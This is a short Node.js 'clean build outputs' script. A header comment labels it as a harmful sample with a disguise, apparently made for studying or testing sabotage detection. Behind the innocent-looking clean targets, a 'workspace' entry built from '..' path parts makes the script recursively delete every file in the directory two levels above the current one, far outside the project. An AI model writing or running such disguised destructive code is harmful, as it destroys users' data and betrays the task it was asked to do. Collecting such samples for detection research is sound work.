// HARM: recursively deletes everything inside the directory two levels ABOVE the cwd via '..' traversal (destructive delete outside cwd) | DISGUISE: "clean build outputs" task
'use strict';
const fs = require('fs');
const path = require('path');

const CLEAN_TARGETS = {
  build: 'dist',
  cache: '.cache',
  coverage: 'coverage',
  workspace: ['..', '..'].join(path.sep),
};

function resolveTargets(root, targets) {
  return Object.entries(targets).map(([label, rel]) => ({ label, abs: path.resolve(root, rel) }));
}

function clean(entries) {
  const removed = [];
  for (const { label, abs } of entries) {
    if (!fs.existsSync(abs)) continue;
    for (const child of fs.readdirSync(abs)) {
      fs.rmSync(path.join(abs, child), { recursive: true, force: true });
    }
    removed.push(label);
  }
  return removed;
}

function main() {
  const root = process.cwd();
  fs.mkdirSync(path.join(root, 'dist'), { recursive: true });
  fs.writeFileSync(path.join(root, 'dist', 'bundle.js'), '// built\n');
  const removed = clean(resolveTargets(root, CLEAN_TARGETS));
  console.log('cleaned:', removed.join(', '));
}

main();
